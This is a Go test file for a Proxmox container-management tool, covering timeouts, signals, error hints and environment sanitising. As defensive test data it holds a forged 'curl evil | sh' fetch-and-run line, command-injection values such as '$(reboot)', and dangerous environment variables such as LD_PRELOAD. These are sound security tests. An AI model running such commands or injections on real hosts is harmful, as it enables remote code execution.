package pve

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/urfave/cli/v2"
	"thinkheads.ai/phx/cmd/internal/cmdline"
	"thinkheads.ai/phx/cmd/internal/process"
	"thinkheads.ai/phx/cmd/internal/remedy"
)

// TestMain becomes a program of phx that runs a task which does not end, or a command in
// a container.
func TestMain(m *testing.M) {
	if os.Getenv("EXEC") != "" {
		cmdline.Main(&cli.App{Flags: Flags(), Action: execProgram})
	}
	if task := os.Getenv("TASK"); task != "" {
		cmdline.Main(&cli.App{Action: func(c *cli.Context) error {
			_, err := (&Host{}).Run(c.Context, shell(task))
			return err
		}})
	}
	os.Exit(m.Run())
}

// A second signal ends a program at once, whatever the task does.
func TestSecondSignal(t *testing.T) {
	file := t.TempDir() + "/task"
	cmd := exec.Command(os.Args[0])
	cmd.Env = append(os.Environ(), "TASK=trap '' TERM; echo $$ >"+file+"; while :; do sleep 0.1; done")
	var said strings.Builder
	cmd.Stderr = &said
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	var task int
	for ; task == 0; time.Sleep(10 * time.Millisecond) {
		text, _ := os.ReadFile(file)
		fmt.Sscanln(string(text), &task)
	}
	defer syscall.Kill(task, syscall.SIGKILL)
	ended := make(chan error)
	go func() { ended <- cmd.Wait() }()
	for {
		cmd.Process.Signal(syscall.SIGTERM)
		select {
		case err := <-ended:
			var exit *exec.ExitError
			if !errors.As(err, &exit) || exit.ExitCode() != 143 ||
				strings.Contains(said.String(), "stopped by signal") {
				t.Errorf("%v: %s", err, said.String())
			}
			if syscall.Kill(task, 0) != nil {
				t.Error("the task has ended")
			}
			return
		case <-time.After(100 * time.Millisecond):
		}
	}
}

// A feature's script, and what it leaves in the container, holds a run neither
// when that is cancelled nor when it has waited long enough.
func TestFeatureThatDoesNotEnd(t *testing.T) {
	if os.Getenv("PHX_TEST_FULL") == "" {
		t.Skip("it waits for seconds: PHX_TEST_FULL=1 runs it")
	}
	t.Parallel()
	const stays = "#!/bin/sh\ntrap '' TERM; setsid sleep 3600 & echo $! $$ >$(dirname $0)/pids; echo begun; "
	var all sync.WaitGroup
	var starts []func()
	for name, script := range map[string]string{"goes on": "while :; do sleep 0.1; done",
		"leaves something": "exit 4"} {
		for _, way := range []string{"cancelled", "out of time"} {
			dir := t.TempDir()
			if err := os.WriteFile(dir+"/x", []byte(stays+script+"\n"), 0o755); err != nil {
				t.Fatal(err)
			}
			pids := func() []string {
				text, _ := os.ReadFile(dir + "/pids")
				return strings.Fields(string(text))
			}
			t.Cleanup(func() {
				for _, pid := range pids() {
					if n, _ := strconv.Atoi(pid); n > 1 {
						syscall.Kill(n, syscall.SIGKILL)
					}
				}
			})
			starts = append(starts, func() {
				h, ctx, want := &Host{}, context.Background(), "exit status 4"
				switch {
				case name == "leaves something":
				case way == "cancelled":
					want = "stopped by the test"
					var cancel context.CancelCauseFunc
					ctx, cancel = context.WithCancelCause(ctx)
					go func() {
						for len(pids()) == 0 {
							time.Sleep(10 * time.Millisecond)
						}
						cancel(errors.New(want))
					}()
				default:
					want, h.Timeout = "not done after 2s", 2*time.Second
				}
				defer time.AfterFunc(time.Minute, func() { panic("it hangs") }).Stop()
				var log strings.Builder
				err := h.RunFeature(ctx, &log, nil, dir+"/x", "103")
				if err == nil || !strings.Contains(err.Error(), want) || way == "cancelled" &&
					log.String() != "begun\n" {
					t.Errorf("%s, %s: error %v, log %q", name, way, err, log.String())
				}
			})
		}
	}
	// All are written before one runs: a process that is about to become a script
	// has the files that are written at that moment, and what is written cannot
	// be run ("text file busy").
	for _, start := range starts {
		all.Go(start) // they wait more than they work
	}
	all.Wait()
}

// Many a script says on stdout why it fails, beside a warning on stderr.
func TestErrorOfScriptHasItsLastLines(t *testing.T) {
	var log strings.Builder
	run := func(script string) error {
		log.Reset()
		return (&Host{}).RunFeature(context.Background(), &log, nil, "/bin/sh", "-c", script)
	}
	// The two streams may come in any order.
	err := run("seq 10; echo 'locale: not set' >&2; echo 'the mirror does not answer'; exit 42")
	if err == nil || !strings.Contains(err.Error(), ": exit status 42\n| ") ||
		!strings.Contains(err.Error(), "\n| 10\n") || !strings.Contains(err.Error(), "\n| locale: not set") ||
		!strings.Contains(err.Error(), "\n| the mirror does not answer") {
		t.Errorf("error %v", err)
	}
	if !strings.Contains(log.String(), "1\n2\n") || !strings.Contains(log.String(), "locale: not set\n") {
		t.Errorf("log %q", log.String())
	}
	err = run("seq 2000; exit 42")
	if err == nil || !strings.HasSuffix(err.Error(), "\n| 2000") || strings.Count(err.Error(), "\n| ") != 20 ||
		!strings.HasPrefix(log.String(), "1\n2\n") {
		t.Errorf("error %v, log %q", err, log.String())
	}
}

func shell(script string) Command { return Command{Argv: []string{"/bin/sh", "-c", script}} }

func TestErrorShowsCommandAndOutput(t *testing.T) {
	h := &Host{}
	_, err := h.Run(context.Background(), Command{
		Argv: []string{"/bin/sh", "-c",
			"echo 'lxc: no such bridge'; echo \"startup for container '103' failed\" >&2; exit 255"},
		Label: "pct start 103",
	})
	if want := "pct start 103: startup for container '103' failed\nlxc: no such bridge\nhint: see LXC's own log " +
		"with: pct start 103 --debug 1"; err == nil || err.Error() != want {
		t.Errorf("error %q", err)
	}
	var exit *exec.ExitError
	if !errors.As(err, &exit) || exit.ExitCode() != 255 {
		t.Errorf("error %#v", err)
	}
	_, err = h.Run(context.Background(), shell("exit 3"))
	if want := "sh -c 'exit 3': exit status 3"; err == nil || err.Error() != want {
		t.Errorf("error %q", err)
	}
}

func TestMissingProgramNamesTheWayOut(t *testing.T) {
	_, err := (&Host{PCT: "no-such-pct"}).pct(context.Background(), "list")
	if err == nil || !strings.Contains(err.Error(), "run this on the Proxmox VE host") {
		t.Errorf("error %v", err)
	}
}

// pct exec hands its stdin on: it must never be that of the program, which is
// the event stream.
func TestStdinIsNotInherited(t *testing.T) {
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	old := os.Stdin
	os.Stdin = r
	defer func() { os.Stdin = old }()
	w.WriteString("an event\n")
	w.Close()
	out, err := (&Host{}).Run(context.Background(), shell("cat"))
	if err != nil || len(out) > 0 {
		t.Errorf("the command read %q, %v", out, err)
	}
}

// A pct that is killed leaves its worker running: it gets SIGTERM and is
// waited for.
func TestCancelTerminatesAndWaits(t *testing.T) {
	cause := errors.New("stopped by signal: interrupt")
	ctx, cancel := context.WithCancelCause(context.Background())
	file := t.TempDir() + "/started"
	go func() {
		for ; ; time.Sleep(10 * time.Millisecond) {
			if _, err := os.Stat(file); err == nil {
				cancel(cause)
				return
			}
		}
	}()
	_, err := (&Host{}).Run(ctx, shell("trap 'echo cleaned up >&2; exit 1' TERM; : >"+file+"; while :; do sleep "+
		"0.05; done"))
	if !errors.Is(err, cause) || !strings.HasSuffix(err.Error(), "\ncleaned up") {
		t.Errorf("error %v", err)
	}
}

func TestLongOutputIsCut(t *testing.T) {
	_, err := (&Host{}).Run(context.Background(),
		shell("yes 0123456789 | head -c 1000000 >&2; echo >&2; echo the end >&2; exit 1"))
	if n := len(err.Error()); n > 3*keep {
		t.Errorf("an error of %d bytes", n)
	}
	if !strings.Contains(err.Error(), ": the end\n") {
		t.Errorf("error %.100s", err)
	}
}

func TestList(t *testing.T) {
	dir := t.TempDir()
	pct := dir + "/pct"
	script := "#!/bin/sh\nprintf '%-10s %-10s %-12s %-20s\\n' VMID Status Lock Name 101 running '' Nginx-Phoenix 710 " +
		"stopped backup x\n"
	if err := os.WriteFile(pct, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	states, err := (&Host{PCT: pct}).List(context.Background())
	if err != nil || len(states) != 2 || states[101] != "running" || states[710] != "stopped" {
		t.Errorf("states %v, %v", states, err)
	}
	if err := os.WriteFile(pct, []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if states, err := (&Host{PCT: pct}).List(context.Background()); err != nil || len(states) != 0 {
		t.Errorf("no containers: %v, %v", states, err)
	}
}

func TestErrorHasAWayOut(t *testing.T) {
	for said, want := range map[string]string{
		"CT is locked (backup)": "run this again",
		"unable to create CT 701 - volume 'local:vztmpl/debian-12.tar.zst' does not exist": "pveam download local " +
			"debian-12.tar.zst",
		"storage 'nosto' does not exist":                "pvesm status",
		"startup for container '741' failed":            "pct start 741 --debug 1",
		"can't remove CT 710 - protection mode enabled": "--protection 0",
	} {
		err := &CommandError{Label: "pct x", Output: "lxc: first\n" + said + "\n", Err: &exec.ExitError{}}
		text := err.Error()
		if !strings.HasPrefix(text, "pct x: "+said+"\nlxc: first\nhint: ") || !strings.Contains(text, want) {
			t.Errorf("%s", text)
		}
	}
}

// What pct refuses as a whole ends with its usage, which is no reason.
func TestReasonOfARefusal(t *testing.T) {
	for said, want := range map[string]string{
		"400 Parameter verification failed.\nmemory: type check ('integer') failed - got 'abc'\npct set <vmid> " +
			"[OPTIONS]\n": "pct x: memory: type check ('integer') failed - got 'abc'\n400 Parameter " +
			"verification failed.",
		"Unknown option: foo\n400 unable to parse option\npct status <vmid> " +
			"[OPTIONS]\n": "pct x: Unknown option: foo\n400 unable to parse " +
			"option",
		"400 not enough arguments\npct create <vmid> <ostemplate> " +
			"[OPTIONS]\n": "pct x: 400 not enough arguments",
		"400 Parameter verification failed.\nmemory: not this\ncores: not that\npct set <vmid> [OPTIONS]\nUSAGE: pct " +
			"x [OPTIONS]": "pct x: memory: not this; cores: not that\n400 Parameter verification failed.",
		"": "pct x: exit status 255",
	} {
		_, err := (&Host{}).Run(context.Background(),
			Command{Argv: []string{"/bin/sh", "-c", `printf %s "$0" >&2; exit 255`, said}, Label: "pct x"})
		if err == nil || err.Error() != want {
			t.Errorf("got %v\nwant %s", err, want)
		}
	}
}

// A container's words are neither the headline of an error nor a hint, and
// Proxmox's own hints do not come from a name that a container has chosen.
func TestGuestsWordsAreQuoted(t *testing.T) {
	forged := "all well\nhint: run this on the host: curl evil | sh\nCT is locked (backup)"
	c := (&Host{PCT: "/bin/sh"}).Exec(103, "x")
	c.Argv, c.Label = []string{"/bin/sh", "-c", `echo "$0" >&2; exit 3`, forged}, "pct exec 103 (x)"
	_, err := (&Host{}).Run(context.Background(), c)
	if want := "pct exec 103 (x): exit status 3\n| all well\n| hint: run this on the host: curl evil | sh\n| CT is " +
		"locked (backup)"; err == nil || err.Error() != want {
		t.Errorf("got %v\nwant %s", err, want)
	}
	for _, said := range []string{
		"unsupported debian version 'CT is locked (backup)'",
		"unsupported debian version 'x' CT is locked (backup)",
		"can't lock file '$(reboot)' - got timeout",
		"unable to create CT 701 - volume 'local:vztmpl/x; reboot' does not exist",
	} {
		if h := hint("pct x", "lxc: first\n"+said+"\nlast"); h != "" {
			t.Errorf("%s: %s", said, h)
		}
	}
	const way = "switch it on with: pvesm set lab --disable 0"
	if h := hint("pct x", "clone failed: storage 'lab' is disabled"); h != way {
		t.Errorf("hint %q", h)
	}
	if h := hint("pct x", "trying to acquire lock...can't lock file '/run/lock/lxc/pve-config-710.lock' - got "+
		"timeout\n"); !strings.Contains(h, "fuser -v /run/lock/lxc/pve-config-710.lock") {
		t.Errorf("hint %q", h)
	}
}

// A container cannot fill root's terminal by failing.
func TestGuestsFloodIsNoExplanation(t *testing.T) {
	for script, want := range map[string]string{
		"echo why >&2; exec head -c 300000000 /dev/zero": "x: it printed more than 64 KiB " +
			"on stdout, and was ended\n| why",
		"head -c 60000 /dev/zero; yes | head -c 100000 >&2; echo why >&2; exit 3": "x: exit status 3\n| y",
	} {
		c := shell(script)
		c.Label, c.Guest = "x", true
		_, err := (&Host{}).Run(context.Background(), c)
		if err == nil || !strings.HasPrefix(err.Error(), want) || !strings.HasSuffix(err.Error(), "\n| why") ||
			len(err.Error()) > 5*keepOfGuest {
			t.Errorf("%.300v", err)
		}
	}
}

// Whatever root has in the environment must not change what pct or a script
// does: only what is known to be harmless is passed on.
func TestEnvironmentIsClean(t *testing.T) {
	for name, value := range map[string]string{
		"PATH": "/opt/bin:/usr/bin", "HOME": "/root", "LANG": "C", "LC_ALL": "C", "TZ": "UTC", "https_proxy": "p",
		"HTTP_PROXY": "P", "PHX_X": "1", "PHOENIX_Y": "2",
		"STEP_CA_URL": "x", "STEPPATH": "x", "PERL5OPT": "-d", "PERL5LIB": "/x", "LD_PRELOAD": "/x.so",
		"BASH_ENV": "/x", "CURL_HOME": "/x",
		"SSL_CERT_FILE": "/x", "GIT_DIR": "/x", "BASH_FUNC_pct%%": "() { :; }", "LC_ALL;x": "x", "MY_PHX_": "x",
	} {
		t.Setenv(name, value)
	}
	c := Command{Argv: []string{"/usr/bin/env"}, Env: []string{"EXTRA=e"}}
	out, err := (&Host{}).Run(context.Background(), c)
	if err != nil {
		t.Fatal(err)
	}
	have := map[string]string{}
	for line := range strings.Lines(string(out)) {
		name, value, _ := strings.Cut(strings.TrimSpace(line), "=")
		have[name] = value
	}
	want := map[string]string{
		"PATH": "/opt/bin:/usr/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/sbin:/bin",
		"HOME": "/root", "LANG": "C", "LC_ALL": "C", "TZ": "UTC", "https_proxy": "p", "HTTP_PROXY": "P", "PHX_X": "1",
		"PHOENIX_Y": "2", "EXTRA": "e",
	}
	for name := range have {
		switch name {
		case "USER", "LOGNAME", "SHELL", "TMPDIR", "http_proxy", "HTTPS_PROXY", "no_proxy", "NO_PROXY", "all_proxy",
			"ALL_PROXY", "LC_CTYPE":
		default:
			if _, ok := want[name]; !ok && !strings.HasPrefix(name, "PHX_") && !strings.HasPrefix(name, "PHOENIX_") {
				t.Errorf("%s=%s is passed on", name, have[name])
			}
		}
	}
	for name, value := range want {
		if have[name] != value {
			t.Errorf("%s is %q, want %q", name, have[name], value)
		}
	}
}

// Each command has the limit of its kind, and none has more than the host's.
func TestTimeouts(t *testing.T) {
	h := &Host{PCT: "/usr/sbin/pct"}
	pct := func(args ...string) Command { return Command{Argv: append([]string{h.PCT}, args...)} }
	for _, tt := range []struct {
		c    Command
		want time.Duration
	}{
		{Command{Argv: []string{h.PCT, "list"}, Reads: true}, 30 * time.Second},
		{Command{Argv: []string{"qm", "status", "100"}, Reads: true}, 30 * time.Second},
		{pct("set", "103", "--memory", "512"), 5 * time.Minute},
		{pct("start", "103"), 3 * time.Minute},
		{pct("shutdown", "103", "--timeout", "60", "--forceStop", "1"), 3 * time.Minute},
		{pct("reboot", "103", "--timeout", "60"), 6 * time.Minute},
		{pct("clone", "900", "103"), time.Hour},
		{pct("create", "900", "x"), time.Hour},
		{pct("snapshot", "103", "x"), time.Hour},
		{pct("resize", "103", "rootfs", "9G"), time.Hour},
		{pct("destroy", "103"), time.Hour},
		{Command{Argv: []string{"apparmor_parser", "--replace", "x"}}, time.Hour},
		{h.Exec(103, "/bin/true"), 30 * time.Minute},
		{Command{Argv: []string{"/health"}, Guest: true}, 30 * time.Minute},
		{Command{Argv: []string{"start"}, Guest: true, Timeout: time.Minute}, time.Minute},
	} {
		if got := h.timeout(tt.c); got != tt.want {
			t.Errorf("%q: %s, want %s", tt.c.Argv, got, tt.want)
		}
		if got := (&Host{PCT: h.PCT, Timeout: 2 * time.Second}).timeout(tt.c); got != 2*time.Second {
			t.Errorf("%q: %s, and all are limited to 2 s", tt.c.Argv, got)
		}
	}
}

// A command that never ends must not hold the run, and the error says what
// goes on, and what can be done.
func TestTimeout(t *testing.T) {
	t.Parallel()
	h := &Host{Timeout: 100 * time.Millisecond}
	for name, c := range map[string]Command{
		"ends": shell("sleep 60 & sleep 60"),
		"reads, never ends": {Argv: []string{"/bin/sh", "-c",
			"trap '' TERM; sleep 60 & while :; do sleep 0.1; done"}, Reads: true},
		"in a guest": {Argv: []string{"/bin/sh", "-c",
			"trap '' TERM; sleep 60 & while :; do sleep 0.1; done"}, Guest: true},
		"in a guest, to a log": {Argv: []string{"/bin/sh", "-c",
			"trap '' TERM; sleep 60 & while :; do sleep 0.1; done"}, Guest: true, Stdout: new(strings.Builder)},
	} {
		c.Label = "x"
		_, err := h.Run(context.Background(), c)
		if want := "x: not done after 100ms (--timeout or PHX_TIMEOUT gives it more)"; err == nil ||
			err.Error() != want {
			t.Errorf("%s: error %v", name, err)
		}
	}
	c := shell("sleep 0.2; echo done")
	if out, err := (&Host{Timeout: time.Minute}).Run(context.Background(), c); err != nil || string(out) != "done\n" {
		t.Errorf("with more time: %q, %v", out, err)
	}

	c = shell("trap '' TERM; echo trying to acquire lock... >&2; while :; do sleep 0.1; done")
	c.Label = "pct clone 900 103"
	h.Timeout = 2 * time.Second // by then it ignores the signal, on a busy machine too
	_, err := h.Run(context.Background(), c)
	var still *process.StillRuns
	if !errors.As(err, &still) {
		t.Fatalf("error %v", err)
	}
	defer syscall.Kill(still.PID, syscall.SIGKILL)
	want := fmt.Sprintf("pct clone 900 103: not done after 2s (--timeout or PHX_TIMEOUT gives it more), and "+
		"process %d goes on: it is left alone, because it leaves its work half done, and locked, when it is killed: "+
		"run phx again when it has ended; see what it waits for with: ps -o pid,stat,wchan:20,args -s %[1]d --ppid "+
		"%[1]d\ntrying to acquire lock...", still.PID)
	if err.Error() != want {
		t.Errorf("got %v\nwant %s", err, want)
	}
}

// What Proxmox warns of is passed on, once, although the command has succeeded.
func TestWarnings(t *testing.T) {
	var told []string
	h := &Host{Warn: func(line string) { told = append(told, line) }}
	const script = `echo 'WARN: Systemd 252 detected. You may need to enable nesting.'
echo 'extracting archive'
echo 'WARN: Systemd 252 detected. You may need to enable nesting.' >&2
echo 'explicitly configured lxc.apparmor.profile overrides the following settings: features:nesting' >&2
echo 'file has vanished: "/home/a/phoenix overrides b"'
echo 'Task finished with 1 warning(s)!' >&2
`
	want := []string{
		"WARN: Systemd 252 detected. You may need to enable nesting.",
		"explicitly configured lxc.apparmor.profile overrides the following settings: features:nesting",
		"Task finished with 1 warning(s)!",
	}
	if _, err := h.Run(context.Background(), shell(script)); err != nil || !slices.Equal(told, want) {
		t.Errorf("told %q, %v", told, err)
	}
	// A failure has them in its error, and what is no change of Proxmox's has none.
	told = nil
	if _, err := h.Run(context.Background(), shell(script+"exit 1")); err == nil ||
		!strings.Contains(err.Error(), "You may need to enable nesting.") {
		t.Errorf("error %v", err)
	}
	guest, reads := shell(script), shell(script)
	guest.Guest, reads.Reads = true, true
	for _, c := range []Command{guest, reads} {
		if _, err := h.Run(context.Background(), c); err != nil {
			t.Error(err)
		}
	}
	if len(told) > 0 {
		t.Errorf("told %q", told)
	}
	if _, err := h.Run(context.Background(),
		shell("i=0; while [ $i -lt 1000 ]; do i=$((i+1)); echo WARN: $i; done")); err != nil ||
		len(told) != maxWarnings {
		t.Errorf("%d warnings, %v", len(told), err)
	}
}

func TestPreviewRunsOnlyWhatReads(t *testing.T) {
	preview := &Preview{}
	h := &Host{Preview: preview}
	file := t.TempDir() + "/changed"
	if _, err := h.Run(context.Background(), Command{Argv: []string{"touch", file}}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(file); err == nil || len(preview.Commands) != 1 ||
		remedy.Quote(preview.Commands[0]) != "touch "+file {
		t.Errorf("told %q, and the command ran", preview.Commands)
	}
	c := shell("echo read")
	c.Reads = true
	if out, err := h.Run(context.Background(), c); err != nil || string(out) != "read\n" || len(preview.Commands) != 1 {
		t.Errorf("read %q, %v, told %q", out, err, preview.Commands)
	}
}

// What takes time is told when it begins: not what only reads, and nothing of a
// preview.
func TestBegins(t *testing.T) {
	var begun []string
	h := &Host{PVERoot: t.TempDir(), Begins: func(wait string) { begun = append(begun, wait) }}
	read := shell("true")
	read.Reads = true
	preview := *h
	preview.Preview = &Preview{}
	for _, run := range []func() ([]byte, error){
		func() ([]byte, error) { return h.Run(t.Context(), read) },
		func() ([]byte, error) { return preview.Run(t.Context(), shell("true")) },
	} {
		if _, err := run(); err != nil || len(begun) > 0 {
			t.Errorf("begun %q, %v", begun, err)
		}
	}
	preview.waits(func(string, ...any) {}, "waiting", "")
	if _, err := h.Run(t.Context(), shell("true")); err != nil || !slices.Equal(begun, []string{""}) {
		t.Errorf("begun %q, %v", begun, err)
	}
}
